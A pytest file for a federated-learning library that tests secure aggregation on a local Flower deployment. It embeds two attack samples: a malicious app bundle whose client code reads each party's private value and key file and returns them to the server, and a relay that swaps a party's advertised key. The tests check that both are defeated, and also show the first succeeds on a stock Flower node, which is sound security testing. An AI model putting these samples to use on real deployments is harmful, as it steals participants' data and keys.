"""GOPA on a real Flower deployment: flower-superlink + one long-lived node process per party
on loopback (renyi.federated.flower_node), started and stopped by each test.

A K = 5 deployment costs about 16 s of CPU (SuperLink, its SuperExec and ServerApp,
``flwr run`` and five node processes: one per party for its whole life, where Flower's
``flower-supernode`` started a ClientApp process per message, ~38 processes). One runs by
default (a ServerApp shipping its own ClientApp); the others are ``slow`` (a killed party
on a real deployment runs by default in tests/test_federated_secagg_flower.py, with the
double-masked protocol).
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import warnings
from pathlib import Path

import numpy as np
import pytest

os.environ["FLWR_TELEMETRY_ENABLED"] = "0"
os.environ["RAY_USAGE_STATS_ENABLED"] = "0"
pytest.importorskip("flwr")

from renyi import noise
from renyi.errors import InsecureRandomnessWarning
from renyi.federated.channels import ChaCha20Source
from renyi.federated.flower_deploy import LocalDeployment
from renyi.federated.gopa import GopaProtocol
from renyi.federated.gopa_flower import deployment_files, run_local_deployment, session_graph

K = 5
VALUES = [0.11, 0.42, 0.73, 0.25, 0.98]
KEYS = [bytes([i + 7]) * 32 for i in range(K)]
SIGMA_ETA, SIGMA_DELTA, PEERS = 0.3, 25.0, 2


def _expected(parties: list[int]) -> float:
    """Mean of the parties' values plus their independent noise (keyed normals), recomputed;
    the release is this on the lattice g = lattice_step(sigma_eta), each message rounded
    once (so within g / 2 of it)."""
    eta = [SIGMA_ETA * noise.standard_normal(1, rng=ChaCha20Source(KEYS[i]))[0] for i in parties]
    return float((np.asarray(VALUES)[parties].sum() + sum(eta)) / len(parties))


G = noise.lattice_step(SIGMA_ETA)


def _alive(pgids: set[int]) -> list[int]:
    """Processes still in any of these process groups (Linux /proc)."""
    out = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                fields = (d / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[2]) in pgids and fields[0] != "Z":
                out.append(int(d.name))
    return out


@pytest.mark.slow
def test_deployment_survives_a_killed_party_exactly() -> None:
    """K = 5 nodes; one is killed (SIGKILL, whole process group) right after pairing.

    Its neighbours reveal their terms within the budget; the release is within g/2 of the
    mean of the four survivors' values plus their own noise, and within g of the in-process
    reference simulation with the same dropout. No process is left behind.
    """
    sid = bytes(range(16))
    edges = session_graph(sid, K, PEERS)
    victim = 3
    killed: list[int] = []
    groups: set[int] = set()

    def on_status(line: str, nodes: list[subprocess.Popen[bytes]]) -> None:
        groups.update(p.pid for p in nodes)
        if line.startswith("pair ") and not killed:
            os.killpg(nodes[victim].pid, signal.SIGKILL)
            killed.append(victim)

    res = run_local_deployment(
        VALUES,
        sigma_eta=SIGMA_ETA,
        sigma_delta=SIGMA_DELTA,
        peers=PEERS,
        reveal_budget=2,
        noise_keys=KEYS,
        session=sid,
        grace=3.0,
        notify=False,
        on_status=on_status,
    )
    assert killed == [victim]
    assert res.status == "released", res.reason
    assert res.dropped == (f"party-{victim:03d}",)
    survivors = [i for i in range(K) if i != victim]
    assert abs(res.estimate - _expected(survivors)) <= G / 2
    assert res.raw["revealed_edges"]  # the victim's edges were recovered by reveals
    assert res.bytes_per_party > 0
    assert len(groups) == K and not _alive(groups)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", InsecureRandomnessWarning)
        ref = GopaProtocol(
            VALUES,
            sigma_eta=SIGMA_ETA,
            sigma_delta=SIGMA_DELTA,
            peers=PEERS,
            edges=edges,
            reveal_budget=2,
            noise_keys=KEYS,
        )
        ref.send_seeds()
        assert abs(ref.aggregate([victim]).estimate - res.estimate) <= G


_THIEF = textwrap.dedent(
    '''
    """A malicious app bundle: its ClientApp sends the party's value and key to the server."""
    import json
    import time
    from pathlib import Path

    from flwr.app import ConfigRecord, Message, MessageType, RecordDict
    from flwr.clientapp import ClientApp
    from flwr.serverapp import ServerApp

    MARKER = {marker!r}

    client = ClientApp()


    @client.query()
    def steal(msg, context):
        Path(MARKER).write_text("the server's code ran on a party")
        cfg = context.node_config
        loot = {{"value": float(cfg["value"]), "key": Path(cfg["key-file"]).read_bytes()}}
        return Message(RecordDict({{"loot": ConfigRecord(loot)}}), reply_to=msg)


    server = ServerApp()


    @server.main()
    def main(grid, context):
        cfg = context.run_config
        end = time.monotonic() + 60
        while len(list(grid.get_node_ids())) < {k} and time.monotonic() < end:
            time.sleep(0.05)
        head = {{
            "relay.protocol": "renyi-gopa", "relay.session": b"s" * 16, "relay.phase": "join",
            "relay.opening": True,
        }}
        msgs = [
            Message(
                RecordDict({{"renyi-relay": ConfigRecord(head)}}),
                dst_node_id=n,
                message_type=MessageType.QUERY,
            )
            for n in grid.get_node_ids()
        ]
        ids, out = set(grid.push_messages(msgs)), []
        while ids and time.monotonic() < end:
            for r in grid.pull_messages(list(ids)):
                ids.discard(r.metadata.reply_to_message_id)
                rec = {{"error": r.has_error()}}
                if not r.has_error():
                    c = r.content
                    if "loot" in c:
                        rec["loot"] = {{"value": c["loot"]["value"], "key": c["loot"]["key"].hex()}}
                    if "renyi-relay" in c and "abort" in c["renyi-relay"]:
                        rec["payload"] = {{"abort": c["renyi-relay"]["abort"]}}
                out.append(rec)
            time.sleep(0.05)
        Path(cfg["result-file"]).write_text(json.dumps(out))
    '''
)


def _steal(
    tmp_path: Path, node: str
) -> tuple[list[dict[str, object]], list[dict[str, object]], Path]:
    marker = tmp_path / "marker"
    dep = LocalDeployment([{}] * K, "renyi.federated.gopa_flower:client_app", node=node)  # type: ignore[arg-type]
    _, _, dep.node_configs = deployment_files(dep.workdir, VALUES)
    with dep:
        out = dep.run(
            "thief:server",
            {},
            app_files={"thief.py": _THIEF.format(marker=str(marker), k=K)},
            client_component="thief:client",
            timeout=240,
        )
        configs = list(dep.node_configs)
    return out, configs, marker  # type: ignore[return-value]


def test_a_party_node_never_runs_the_servers_code(tmp_path: Path) -> None:
    """A ServerApp whose app bundle names its own ClientApp (one that sends the node's value
    and key file to the server): a renyi node runs only its pinned party app, which refuses
    the malformed join; the server gets no value, no key, and the bundle's code never runs."""
    out, _, marker = _steal(tmp_path, "renyi")
    assert len(out) == K
    for rec in out:
        assert "loot" not in rec
        assert "abort" in rec["payload"]  # type: ignore[operator]
    assert not marker.exists()


@pytest.mark.slow
def test_flowers_stock_supernode_runs_the_servers_code(tmp_path: Path) -> None:
    """The attack above is real: Flower's ``flower-supernode`` (no ``--trusted-entities``)
    installs and runs the ClientApp the server's bundle names, which returns every value."""
    out, configs, marker = _steal(tmp_path, "flower-supernode")
    loot = sorted(float(rec["loot"]["value"]) for rec in out if "loot" in rec)  # type: ignore[index]
    assert loot == sorted(VALUES)
    assert marker.exists()
    assert configs


_RELAY = textwrap.dedent(
    '''
    """A malicious relay: swaps one party's advertised key for its own signed one."""
    import json
    from pathlib import Path

    from flwr.serverapp import ServerApp

    from renyi.federated import gopa_flower
    from renyi.federated.channels import EphemeralSession, IdentityKey, Roster


    class SwappingGrid:
        def __init__(self, grid):
            self.grid = grid

        def __getattr__(self, name):
            return getattr(self.grid, name)

        def push_messages(self, messages):
            messages = list(messages)
            for m in messages:
                cfg = m.content["renyi-relay"]
                if cfg["relay.phase"] == "pair" and "party-001" in list(cfg["names"]):
                    names = list(cfg["names"])
                    i = names.index("party-001")
                    mallory = IdentityKey("party-001")
                    session = bytes(cfg["relay.session"])
                    fake = EphemeralSession(mallory, Roster.of([mallory]), session)
                    adverts = list(cfg["adverts"])
                    adverts[i] = fake.advertisement().to_bytes()
                    cfg["adverts"] = adverts
            return self.grid.push_messages(messages)


    app = ServerApp()


    @app.main()
    def main(grid, context):
        cfg = dict(context.run_config)
        out = gopa_flower.serve(SwappingGrid(grid), cfg)
        Path(cfg["result-file"]).write_text(json.dumps(out))
    '''
)


@pytest.mark.slow
def test_deployment_relay_key_substitution_aborts_before_masking() -> None:
    statuses: list[str] = []
    res = run_local_deployment(
        VALUES,
        sigma_eta=SIGMA_ETA,
        sigma_delta=SIGMA_DELTA,
        peers=PEERS,
        noise_keys=KEYS,
        notify=False,
        server_component="malicious_relay:app",
        app_files={"malicious_relay.py": _RELAY},
        on_status=lambda line, _: statuses.append(line.split()[0]),
    )
    assert res.status == "aborted"
    assert "not signed by its pinned identity key" in res.reason
    assert "mask" not in statuses  # no value left a party


@pytest.mark.slow
def test_deployment_matches_reference_and_cli_runs() -> None:
    res = run_local_deployment(
        VALUES, sigma_eta=SIGMA_ETA, sigma_delta=SIGMA_DELTA, peers=PEERS, noise_keys=KEYS
    )
    assert res.status == "released" and abs(res.estimate - _expected(list(range(K)))) <= G / 2
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", InsecureRandomnessWarning)
        ref = GopaProtocol(
            VALUES, sigma_eta=SIGMA_ETA, sigma_delta=SIGMA_DELTA, peers=PEERS, noise_keys=KEYS
        )
        assert abs(ref.run().estimate - res.estimate) <= G
    cmd = [sys.executable, "-m", "renyi", "federated", "gopa-run", "--parties", "5", "--json"]
    out = subprocess.run([*cmd, "--trust-server"], capture_output=True, text=True, timeout=600)
    d = json.loads(out.stdout)
    assert d["status"] == "released" and d["parties"] == 5 and d["trusts_server"] is True
    assert abs(d["estimate"] - d["true_mean"]) < 8 * d["output_std"]
    assert d["central_std"] < d["output_std"]
    # the default: double-masked GOPA, each party verified its worst-case epsilon itself
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=600)
    d = json.loads(out.stdout)
    assert d["trusts_server"] is False and d["released"] == 1, d
    (s,) = d["sessions"]
    assert s["included"] == 5 and s["party_epsilon_max"] <= d["epsilon_target"]
    assert abs(s["estimate"] - s["true_mean"]) < 8 * d["std_honest_server"]


@pytest.mark.slow
@pytest.mark.parametrize("start", ["fork", "exec"])
def test_k10_deployment_releases_and_reports_its_cost(start: str) -> None:
    """K = 10 on a real deployment, nodes forked from one launcher or each its own program:
    released, with every party included (the wall time is printed for the record, never
    asserted; benchmarks/gopa.py measures it)."""
    values = np.linspace(0.05, 0.95, 10).tolist()
    started = time.monotonic()
    res = run_local_deployment(
        values, sigma_eta=0.3, sigma_delta=25.0, peers=3, notify=False, start=start
    )
    assert res.status == "released", res.reason
    assert len(res.included) == 10
    print(f"K=10 deployment: {time.monotonic() - started:.1f} s, load {os.getloadavg()[0]:.1f}")


def test_local_deployment_stops_at_its_deadline_before_starting_anything(tmp_path):
    """A deadline that has passed: our timeout error, no SuperLink, no node, no launcher;
    ``deployment_files`` stops at it too (cheap: no process is started)."""
    from renyi.federated.flower_deploy import Deadline, DeploymentTimeoutError

    past = Deadline(0.25, time.monotonic() - 1.0)
    with pytest.raises(DeploymentTimeoutError, match=r"timeout=0.25 s ran out while making"):
        deployment_files(tmp_path, VALUES, deadline=past)
    dep = LocalDeployment([{}] * K, "renyi.federated.gopa_flower:client_app", deadline=past)
    with pytest.raises(DeploymentTimeoutError, match="starting the deployment"), dep:
        pass
    assert dep.superlink is None and dep.launcher is None and not dep.nodes
    with pytest.raises(Exception, match="at most 1000 nodes"):
        LocalDeployment([{}] * 1001, "renyi.federated.gopa_flower:client_app")
